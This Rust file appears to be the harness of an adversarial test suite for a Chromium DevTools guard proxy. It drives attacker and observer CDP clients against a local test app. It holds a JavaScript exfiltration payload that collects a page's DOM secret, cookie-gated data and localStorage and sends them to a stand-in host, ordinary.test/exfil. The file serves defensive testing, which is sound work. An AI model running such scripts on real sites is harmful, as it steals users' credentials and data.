//! The adversarial suite's harness: one leg is a headless Chromium (the crate's own launcher:
//! temporary profile, `--remote-debugging-port=0`, host-resolver rules, process group killed on
//! drop) with the attacks' own server ([`app::App`]) behind every host, an unguarded observer
//! (a CDP connection straight to the browser, standing for the user and the judge), and on the
//! guarded leg the crate's [`Proxy`] in front of the browser for the attacker's client.
//!
//! An attack is a function of a [`Ctx`]: it drives the attacker's client, and the user's side
//! through the observer, and returns `Ok(evidence)` only when evidence the client cannot fake
//! shows it worked: the server's log (the secret reached `/exfil`, the protected app's own
//! beacon fired), what the client received holding the server's fresh secret, or the observer's
//! reading of the protected document.
#![allow(dead_code)]

pub mod app;
pub mod list;
pub mod reach;

use std::collections::HashSet;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::LazyLock;
use std::time::{Duration, Instant};

use serde_json::{json, Value};
use slicc_browsers::guard::proxy::{Proxy, ProxyOptions};
use slicc_browsers::harness::cdp::{CdpClient, CdpOptions};
use slicc_browsers::harness::runner::{CallError, Event, Transport};
use slicc_browsers::harness::selftest::Chromium;

use app::App;
pub use app::{on_site, site};

/// Debian's Chromium.
pub const CHROMIUM: &str = "/usr/bin/chromium";

/// The hosts mapped to the app: the protected site ([`site`]: the catalog's `*.sliccy.ai`),
/// the proxy's extra origin `client.example` and its ordinary same-site `other.client.example`,
/// and ordinary sites.
pub fn hosts() -> Vec<String> {
    [
        "vault.sliccy.ai",
        "seven.sliccy.ai",
        "sw.sliccy.ai",
        "sliccy.ai",
        "ordinary.test",
        "plain.example",
        "cross.example",
        "client.example",
        "other.client.example",
    ]
    .iter()
    .map(|h| on_site(h))
    .collect()
}

/// The extra protected origin given to the proxy.
pub const EXTRA_ORIGIN: &str = "http://client.example";

/// The protected app's origin (`http://vault.sliccy.ai`, on [`site`]).
pub static VAULT: LazyLock<String> = LazyLock::new(|| on_site("http://vault.sliccy.ai"));

/// The issue-19 classes (7: the suite's own ideas; 8: issue 36's).
pub const CLASSES: [&str; 8] = [
    "out-of-process frames of the client's page",
    "documents committing without interception",
    "browser-internal pages",
    "profiling that sees other tabs",
    "the proxy's own surfaces",
    "client headers on protected subresources",
    "other ways in",
    "what belongs to a protected page and what a command reaches",
];

/// Why an attack did not work.
#[derive(Debug, Clone)]
pub enum Stop {
    /// The attack did not get its evidence (a step was refused, or nothing reached the app).
    Failed(String),
    /// The harness or the observer failed: the run proves nothing either way.
    Setup(String),
}

/// What an attack run gives: `Ok(evidence)` when it worked.
pub type Res = Result<String, Stop>;

/// One attack.
pub struct Attack {
    /// Stable id, `<class>.<name>`.
    pub id: &'static str,
    /// The issue-19 class, 1 to 6, 7 for the suite's own ideas, 8 for issue 36's.
    pub class: u8,
    /// What it does, in a few words.
    pub what: &'static str,
    /// The attack.
    pub run: fn(&Ctx) -> Res,
    /// A flaw of the proxy alone (such as a command it never answers): unguarded, the probe
    /// must show Chromium's right behaviour (`Err(Failed)`), which proves it can tell; through
    /// the proxy `Ok` means the flaw is there.
    pub baseline: bool,
    /// How many times a leg tries it before it counts as not working (a race with a commit or
    /// a new target's hold: the attacker simply tries again).
    pub tries: u32,
}

impl Attack {
    /// An attack; its class is the digit after the id's `c`.
    pub fn new(id: &'static str, what: &'static str, run: fn(&Ctx) -> Res) -> Attack {
        let class = id
            .strip_prefix('c')
            .and_then(|r| r.split('.').next())
            .and_then(|d| d.parse().ok())
            .unwrap_or(0);
        Attack {
            id,
            class,
            what,
            run,
            baseline: false,
            tries: 1,
        }
    }

    /// The same attack, tried up to `n` times per leg.
    pub fn tries(self, n: u32) -> Attack {
        Attack { tries: n, ..self }
    }

    /// A [`Attack::baseline`] probe.
    pub fn baseline(id: &'static str, what: &'static str, run: fn(&Ctx) -> Res) -> Attack {
        Attack {
            baseline: true,
            ..Attack::new(id, what, run)
        }
    }
}

/// A headless Chromium, its app, its observer, and (guarded leg) the proxy.
pub struct Leg {
    /// `direct` or `guarded`.
    pub name: &'static str,
    /// The server behind every host.
    pub app: App,
    /// The unguarded observer: the user and the judge.
    pub observer: CdpClient,
    /// The proxy (guarded leg only); dropped before the browser.
    pub proxy: Option<Proxy>,
    /// The browser (its process group is killed on drop).
    pub chromium: Chromium,
    baseline: HashSet<String>,
}

impl Leg {
    /// Starts a leg's app, browser, observer and (if `guarded`) proxy.
    pub fn start(guarded: bool) -> Result<Leg, String> {
        let app = App::start();
        let hosts = hosts();
        let hosts: Vec<&str> = hosts.iter().map(String::as_str).collect();
        let chromium = Chromium::launch(CHROMIUM, &hosts, app.port())?;
        let observer = CdpClient::connect(
            chromium.ws_url(),
            CdpOptions::new().call_timeout(Duration::from_secs(15)),
        )
        .map_err(|e| format!("observer: {e}"))?;
        let proxy = if guarded {
            let mut options = ProxyOptions::new(&chromium.http_url());
            options.origins = vec![EXTRA_ORIGIN.to_string()];
            if site() != "sliccy.ai" {
                options.protect = vec![site().parse().map_err(|e| format!("ATTACKS_SITE: {e}"))?];
            }
            // The browser's profile, as slicc-cdp and slicc-cli know it from discovery.
            options.protect_paths = vec![chromium.profile_dir().display().to_string()];
            Some(Proxy::start(options)?)
        } else {
            None
        };
        let mut leg = Leg {
            name: if guarded { "guarded" } else { "direct" },
            app,
            observer,
            proxy,
            chromium,
            baseline: HashSet::new(),
        };
        leg.baseline = leg.target_ids().into_iter().collect();
        Ok(leg)
    }

    /// The WebSocket the attacker's client connects to.
    pub fn client_ws(&self) -> String {
        match &self.proxy {
            Some(p) => p.websocket_url(),
            None => self.chromium.ws_url().to_string(),
        }
    }

    /// The DevTools HTTP endpoint the attacker's client uses (`/json/*`).
    pub fn client_http(&self) -> String {
        match &self.proxy {
            Some(p) => p.endpoint(),
            None => self.chromium.http_url(),
        }
    }

    fn target_ids(&self) -> Vec<String> {
        self.observer
            .send("Target.getTargets", json!({}), None)
            .ok()
            .and_then(|r| r["targetInfos"].as_array().cloned())
            .unwrap_or_default()
            .iter()
            .filter(|t| t["type"] == "page")
            .filter_map(|t| t["targetId"].as_str().map(String::from))
            .collect()
    }

    /// Closes every page and browser context an attack left behind.
    pub fn cleanup(&self) {
        for id in self.target_ids() {
            if !self.baseline.contains(&id) {
                let _ = self
                    .observer
                    .send("Target.closeTarget", json!({"targetId": id}), None);
            }
        }
        if let Ok(r) = self
            .observer
            .send("Target.getBrowserContexts", json!({}), None)
        {
            for id in r["browserContextIds"]
                .as_array()
                .cloned()
                .unwrap_or_default()
            {
                let _ = self.observer.send(
                    "Target.disposeBrowserContext",
                    json!({"browserContextId": id}),
                    None,
                );
            }
        }
        let _ = self
            .observer
            .send("Browser.resetPermissions", json!({}), None);
    }

    /// Runs `attack` with a fresh client (up to `tries` times until it works); cleans up
    /// after each try.
    pub fn run(&self, attack: &Attack, tries: u32) -> (Res, Duration) {
        let started = Instant::now();
        let mut last = Err(Stop::Setup("never tried".into()));
        for n in 0..tries.max(1) {
            last = self.run_once(attack, n);
            if !matches!(last, Err(Stop::Failed(_))) {
                break;
            }
        }
        (last, started.elapsed())
    }

    fn run_once(&self, attack: &Attack, attempt: u32) -> Res {
        let letter = if self.proxy.is_some() { "g" } else { "d" };
        let tag = format!("{}-{letter}{attempt}", attack.id.replace('.', "-"));
        let result = match CdpClient::connect(
            &self.client_ws(),
            CdpOptions::new().call_timeout(Duration::from_secs(6)),
        ) {
            Err(e) => Err(Stop::Setup(format!("the client cannot connect: {e}"))),
            Ok(client) => {
                let ctx = Ctx {
                    leg: self,
                    c: client,
                    tag,
                };
                let r =
                    std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| (attack.run)(&ctx)))
                        .unwrap_or_else(|p| {
                            let why = p
                                .downcast_ref::<String>()
                                .cloned()
                                .or_else(|| p.downcast_ref::<&str>().map(|s| s.to_string()))
                                .unwrap_or_default();
                            Err(Stop::Setup(format!("the attack panicked: {why}")))
                        });
                ctx.c.close();
                r
            }
        };
        self.cleanup();
        result
    }
}

impl Drop for Leg {
    fn drop(&mut self) {
        self.observer.close();
        if let Some(mut p) = self.proxy.take() {
            p.close();
        }
        self.chromium.kill();
    }
}

/// One attack's run on one leg.
pub struct Ctx<'a> {
    /// The leg.
    pub leg: &'a Leg,
    /// The attacker's client (through the proxy on the guarded leg).
    pub c: CdpClient,
    /// A tag unique to this attack and leg.
    pub tag: String,
}

/// `Failed` from a client error.
pub fn failed(what: &str, e: CallError) -> Stop {
    Stop::Failed(format!("{what}: {e}"))
}

/// `Setup` from an observer error.
pub fn setup(what: &str, e: impl std::fmt::Display) -> Stop {
    Stop::Setup(format!("{what}: {e}"))
}

/// Short for sleeping `ms` milliseconds.
pub fn sleep(ms: u64) {
    std::thread::sleep(Duration::from_millis(ms));
}

impl Ctx<'_> {
    /// The app.
    pub fn app(&self) -> &App {
        &self.leg.app
    }

    /// The observer.
    pub fn obs(&self) -> &CdpClient {
        &self.leg.observer
    }

    /// The app's secret.
    pub fn secret(&self) -> &str {
        self.leg.app.secret()
    }

    /// A URL on the protected app for this attack: `path` gets `t=<tag>` appended.
    pub fn vault(&self, path: &str) -> String {
        self.url(&VAULT, path)
    }

    /// `origin` + `path` with `t=<tag>` appended to its query.
    pub fn url(&self, origin: &str, path: &str) -> String {
        let sep = if path.contains('?') { '&' } else { '?' };
        format!("{origin}{path}{sep}t={}", self.tag)
    }

    /// A client command; an error means the attack is stopped there.
    pub fn send(&self, method: &str, params: Value, session: Option<&str>) -> Result<Value, Stop> {
        self.c
            .send(method, params, session)
            .map_err(|e| failed(method, e))
    }

    /// The client creates a target on `url` and attaches to it: (target id, session id).
    pub fn open(&self, url: &str) -> Result<(String, String), Stop> {
        let t = self.send("Target.createTarget", json!({"url": url}), None)?;
        let id = t["targetId"].as_str().unwrap_or_default().to_string();
        let s = self.attach(&id)?;
        Ok((id, s))
    }

    /// The client attaches (flat) to `target`.
    pub fn attach(&self, target: &str) -> Result<String, Stop> {
        let r = self.send(
            "Target.attachToTarget",
            json!({"targetId": target, "flatten": true}),
            None,
        )?;
        r["sessionId"]
            .as_str()
            .map(String::from)
            .ok_or_else(|| Stop::Failed(format!("attach answered {r}")))
    }

    /// The client evaluates `expr` (awaiting promises) on `session`: its value.
    pub fn eval(&self, session: &str, expr: &str) -> Result<Value, Stop> {
        let r = self.send(
            "Runtime.evaluate",
            json!({"expression": expr, "returnByValue": true, "awaitPromise": true, "userGesture": true}),
            Some(session),
        )?;
        if let Some(ex) = r.get("exceptionDetails") {
            return Err(Stop::Failed(format!("the page threw: {ex}")));
        }
        Ok(r["result"]["value"].clone())
    }

    /// [`Ctx::eval`] with its own timeout (for loops racing a commit: a command the proxy never
    /// answers must not stall them).
    pub fn eval_quick(&self, session: &str, expr: &str, ms: u64) -> Result<Value, Stop> {
        let r = self
            .c
            .send_timeout(
                "Runtime.evaluate",
                json!({"expression": expr, "returnByValue": true, "awaitPromise": true, "userGesture": true}),
                Some(session),
                Duration::from_millis(ms),
            )
            .map_err(|e| failed("Runtime.evaluate", e))?;
        if let Some(ex) = r.get("exceptionDetails") {
            return Err(Stop::Failed(format!("the page threw: {ex}")));
        }
        Ok(r["result"]["value"].clone())
    }

    /// Races a commit: evaluates the exfiltration script on `session` every 20 ms for at most
    /// `ms` until it answers from the vault's origin or the connection is gone (errors and
    /// unanswered commands do not stop it: a command sent before a detach may still run).
    pub fn exfil_loop(&self, session: &str, ms: u64) {
        let js = self.exfil_js();
        let deadline = Instant::now() + Duration::from_millis(ms);
        while Instant::now() < deadline && !self.c.is_closed() {
            if let Ok(v) = self.eval_quick(session, &js, 500) {
                if v.as_str() == Some(VAULT.as_str()) {
                    return;
                }
            }
            sleep(20);
        }
    }

    /// Polls `expr` on the client's `session` until it is `true` (at most `ms`).
    pub fn wait_true(&self, session: &str, expr: &str, ms: u64) -> Result<(), Stop> {
        let deadline = Instant::now() + Duration::from_millis(ms);
        loop {
            if self.eval(session, expr).ok() == Some(json!(true)) {
                return Ok(());
            }
            if Instant::now() >= deadline {
                return Err(Stop::Failed(format!("never true: {expr}")));
            }
            sleep(100);
        }
    }

    /// The script an attack runs in a document: reads the secret from the DOM and from
    /// `/secret` (cookie-gated) and sends what it got to `http://ordinary.test/exfil`.
    pub fn exfil_js(&self) -> String {
        format!(
            "(async () => {{ let d = ''; try {{ d += (document.getElementById('secret') || {{}}).textContent || ''; }} catch (e) {{}} \
             try {{ d += '|' + await (await fetch('/secret', {{credentials: 'include'}})).text(); }} catch (e) {{}} \
             try {{ d += '|' + (localStorage.getItem('vault-secret') || ''); }} catch (e) {{}} \
             fetch('http://ordinary.test/exfil?t={}&o=' + encodeURIComponent(location.origin) + '&d=' + encodeURIComponent(d), {{mode: 'no-cors'}}); return location.origin; }})()",
            self.tag
        )
    }

    /// The evidence of [`Ctx::exfil_js`]: the app saw the secret at `/exfil` within `ms`.
    pub fn exfiltrated(&self, ms: u64) -> Res {
        match self.app().exfiltrated(&self.tag, Duration::from_millis(ms)) {
            Some(hit) => Ok(format!(
                "the secret reached /exfil from {}",
                hit.param("o").unwrap_or_default()
            )),
            None => Err(Stop::Failed("no secret reached /exfil".into())),
        }
    }

    /// Evidence that the client received the secret in `what`.
    pub fn holds_secret(&self, what: &str, text: &str) -> Res {
        if text.contains(self.secret()) {
            Ok(format!("the client received the secret in {what}"))
        } else {
            Err(Stop::Failed(format!(
                "{what} ({} bytes) holds no secret",
                text.len()
            )))
        }
    }

    /// Waits until the protected app's page `tag` reported it loaded (its own beacon).
    pub fn app_loaded(&self, tag: &str, ms: u64) -> bool {
        self.app()
            .app_event(tag, "loaded", "", Duration::from_millis(ms))
            .is_some()
    }

    /// The user opens `url` in a new tab (the observer, unguarded): its target id, once loaded.
    pub fn user_open(&self, url: &str) -> Result<String, Stop> {
        let t = self
            .obs()
            .send("Target.createTarget", json!({"url": url}), None)
            .map_err(|e| setup("the user's tab", e))?;
        let id = t["targetId"].as_str().unwrap_or_default().to_string();
        self.user_wait_loaded(&id, url)?;
        Ok(id)
    }

    /// Evidence when the user's `tab` is gone (or the browser with it): `Ok(worked)`; else
    /// `Failed`, with what the client's command `r` answered.
    pub fn tab_gone(&self, tab: &str, worked: &str, r: &impl std::fmt::Debug) -> Res {
        let there = !self.obs().is_closed()
            && self
                .user_targets()
                .iter()
                .any(|t| t["targetId"] == json!(tab));
        if there {
            Err(Stop::Failed(format!(
                "the vault tab is still there ({r:?})"
            )))
        } else {
            Ok(worked.into())
        }
    }

    /// The observer attaches to `target`: a session.
    pub fn user_session(&self, target: &str) -> Result<String, Stop> {
        self.obs()
            .attach(target)
            .map_err(|e| setup("the observer's attach", e))
    }

    /// The observer evaluates `expr` in `target` (attach, evaluate, detach).
    pub fn user_eval(&self, target: &str, expr: &str) -> Result<Value, Stop> {
        let s = self.user_session(target)?;
        let r = self
            .obs()
            .send(
                "Runtime.evaluate",
                json!({"expression": expr, "returnByValue": true, "awaitPromise": true, "userGesture": true}),
                Some(&s),
            )
            .map_err(|e| setup("the observer's evaluate", e));
        let _ = self
            .obs()
            .send("Target.detachFromTarget", json!({"sessionId": s}), None);
        Ok(r?["result"]["value"].clone())
    }

    /// Waits until `target`'s document is `url` (a prefix) and complete.
    pub fn user_wait_loaded(&self, target: &str, url: &str) -> Result<(), Stop> {
        let deadline = Instant::now() + Duration::from_secs(15);
        let check = format!(
            "location.href.startsWith({}) && document.readyState === 'complete'",
            json!(url)
        );
        loop {
            if self.user_eval(target, &check).ok() == Some(json!(true)) {
                return Ok(());
            }
            if Instant::now() >= deadline {
                return Err(Stop::Setup(format!("the user's tab never loaded {url}")));
            }
            sleep(100);
        }
    }

    /// The id of the first target (of any type) the observer sees whose URL contains `needle`
    /// and whose type is `kind` (any type when empty).
    pub fn user_target(&self, kind: &str, needle: &str) -> Option<String> {
        let r = self
            .obs()
            .send(
                "Target.getTargets",
                json!({"filter": [{"exclude": false}]}),
                None,
            )
            .ok()?;
        r["targetInfos"].as_array()?.iter().find_map(|t| {
            ((kind.is_empty() || t["type"] == kind)
                && t["url"].as_str().is_some_and(|u| u.contains(needle)))
            .then(|| t["targetId"].as_str().map(String::from))
            .flatten()
        })
    }

    /// The observer's reading of the targets.
    pub fn user_targets(&self) -> Vec<Value> {
        self.obs()
            .send("Target.getTargets", json!({}), None)
            .ok()
            .and_then(|r| r["targetInfos"].as_array().cloned())
            .unwrap_or_default()
    }

    /// Client events since `from`.
    pub fn events(&self, from: usize) -> Vec<Event> {
        self.c.events_since(from)
    }

    /// An HTTP request on the client's DevTools endpoint: (status, body).
    pub fn client_http(&self, method: &str, path: &str) -> (u16, String) {
        http_request(&self.leg.client_http(), method, path)
    }

    /// An HTTP GET on the client's DevTools endpoint: (status, body).
    pub fn client_get(&self, path: &str) -> (u16, String) {
        http_get(&self.leg.client_http(), path)
    }
}

/// An HTTP GET on `base` (`http://host:port`): (status, body).
pub fn http_get(base: &str, path: &str) -> (u16, String) {
    http_request(base, "GET", path)
}

/// An HTTP request without a body on `base` (`http://host:port`): (status, body).
pub fn http_request(base: &str, method: &str, path: &str) -> (u16, String) {
    let addr = base.trim_start_matches("http://");
    let Ok(mut s) = TcpStream::connect(addr) else {
        return (0, String::new());
    };
    let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
    let _ = write!(
        s,
        "{method} {path} HTTP/1.1\r\nHost: {addr}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
    );
    let mut buf = Vec::new();
    let mut chunk = [0u8; 16384];
    loop {
        match s.read(&mut chunk) {
            Ok(0) | Err(_) => break,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
        let text = String::from_utf8_lossy(&buf);
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let len = head.lines().find_map(|l| {
                let (n, v) = l.split_once(':')?;
                n.eq_ignore_ascii_case("content-length")
                    .then(|| v.trim().parse::<usize>().ok())
                    .flatten()
            });
            if len.is_some_and(|len| body.len() >= len) {
                break;
            }
        }
    }
    let text = String::from_utf8_lossy(&buf).into_owned();
    let status = text
        .split(' ')
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    let body = text
        .split_once("\r\n\r\n")
        .map(|(_, b)| b.to_string())
        .unwrap_or_default();
    (status, body)
}
